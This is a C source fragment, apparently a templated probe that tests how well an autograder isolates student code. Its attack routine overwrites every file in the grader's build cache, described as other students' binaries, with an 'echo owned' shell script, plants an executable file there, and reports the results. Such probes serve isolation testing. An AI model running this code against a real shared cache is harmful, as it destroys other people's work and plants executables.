/* Replaces every file of the grader's build cache (other students' binaries) and plants one there. */
static int replaced;
static int denied;

static int overwrite(const char *path, const struct stat *info, int type, struct FTW *where)
{
    (void)info;
    (void)where;
    if (type != FTW_F)
        return 0;
    FILE *f = fopen(path, "w");
    if (f) {
        fputs("#!/bin/sh\necho owned\n", f);
        fclose(f);
        replaced++;
    } else {
        denied++;
    }
    return 0;
}

static void attack(void)
{
    if (nftw("@CACHE@", overwrite, 16, FTW_PHYS) != 0)
        say("cache", "cannot walk the build cache: %s", strerror(errno));
    say("cache", "replaced %d files of the build cache, %d refused", replaced, denied);
    int fd = open("@CACHE@/planted-@TOKEN@", O_CREAT | O_WRONLY, 0755);
    say("cache", fd >= 0 ? "planted a file in the build cache" : "cannot plant a file in the build cache: %s",
        strerror(errno));
    if (fd >= 0)
        close(fd);
}
